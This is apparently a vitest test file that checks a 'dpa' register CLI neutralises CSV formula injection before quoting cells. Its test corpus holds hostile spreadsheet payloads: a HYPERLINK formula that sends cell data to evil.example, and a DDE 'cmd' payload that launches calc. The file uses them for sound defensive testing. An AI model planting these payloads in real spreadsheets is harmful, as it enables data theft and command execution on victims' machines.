import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parseCsv } from '../../packages/cli/src/data-rows.js';
import { csvField, CSV_FORMULA_TRIGGERS, neutralizeCsvCell, REGISTER_COLUMNS } from '../../packages/generator/src/register.js';
import { minimalAgreement, ROOT } from '../helpers.js';

const CLI = join(ROOT, 'packages/cli/dist/cli.cjs');

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const BODIES = ['1+1', 'HYPERLINK("https://evil.example/?"&A2,"Klik hier")', "cmd|' /C calc'!A0"];
/** 37 values: every trigger before every body, and a few more; each lands in 4 columns: 148 cells. */
const VALUES = [
    ...TRIGGERS.flatMap(t => BODIES.map(b => `${t}${b}`)),
    ' =1+1',
    '  @SUM(A1:A9)',
    '=',
    '-',
    '＠',
    'Veilige tekst = geen formule',
    'Normaal'
];

/** A `.dpa` string literal of a value. */
const literal = (value: string) => `"${value.replace(/[\\"]/g, '\\$&').replace(/\t/g, '\\t').replace(/\r/g, '\\r')}"`;

/** One processing activity per value: its title, purpose, operations and subject's label are the value. */
function agreement(): string {
    const subjects = VALUES.map((v, i) => `    subject S${i} ${literal(v)}`).join('\n');
    const processings = VALUES.map((v, i) => `    processing P${i} ${literal(v)} {
        purpose ${literal(v)}
        data Contact
        subjects S${i}
        operations ${literal(v)}
        location NL
        measures Encryption, Access
        retention 1 month
    }`).join('\n');
    return minimalAgreement(`${subjects}\n${processings}`);
}

describe('CSV written by dpa is safe to open in a spreadsheet (OWASP CSV injection)', () => {
    test('the 148-cell corpus through dpa register --format csv: no cell starts with a formula trigger', () => {
        const dir = mkdtempSync(join(tmpdir(), 'dpa-csv-'));
        writeFileSync(join(dir, 'agreement.dpa'), agreement());
        const result = spawnSync(process.execPath, [CLI, 'register', 'agreement.dpa', '--format', 'csv'], { cwd: dir, encoding: 'utf8' });
        expect(result.status, result.stderr).toBe(0);
        const [header, ...records] = parseCsv(result.stdout, ',');
        expect(header!.fields).toEqual([...REGISTER_COLUMNS]);
        const cells = records.flatMap(r => r.fields);
        for (const cell of cells) {
            const first = cell.replace(/^[ \n]+/, '').charAt(0);
            expect(TRIGGERS, JSON.stringify(cell)).not.toContain(first);
        }
        const column = (name: string) => records.map(r => r.fields[REGISTER_COLUMNS.indexOf(name as (typeof REGISTER_COLUMNS)[number])]!);
        // The register writes text with its white space collapsed and trimmed (a leading tab or
        // CR is gone); what starts with a trigger then is kept, behind the one quote that makes it text.
        const normal = (value: string) => value.replace(/\s+/g, ' ').trim();
        let neutralised = 0;
        for (const name of ['activity', 'purposes', 'operations', 'dataSubjects']) {
            const values = column(name);
            for (const value of VALUES.map(normal)) {
                const expected = TRIGGERS.includes(value.charAt(0)) ? `'${value}` : value;
                expect(values, `${name}: ${JSON.stringify(value)}`).toContain(expected);
                if (expected !== value) neutralised++;
            }
        }
        expect(neutralised).toBe(4 * 29);
    });

    test('neutralised first, then quoted (RFC 4180)', () => {
        expect(CSV_FORMULA_TRIGGERS).toEqual(TRIGGERS);
        expect(csvField('=HYPERLINK("https://x"&A2)')).toBe('"\'=HYPERLINK(""https://x""&A2)"');
        expect(csvField('-5')).toBe("'-5");
        expect(csvField('＝1+1')).toBe("'＝1+1");
        expect(csvField('\t=1')).toBe("'\t=1");
        expect(csvField('\r=1')).toBe('"\'\r=1"');
        expect(csvField(' @x')).toBe("' @x");
        expect(neutralizeCsvCell('a=b')).toBe('a=b');
        expect(neutralizeCsvCell('')).toBe('');
    });
});
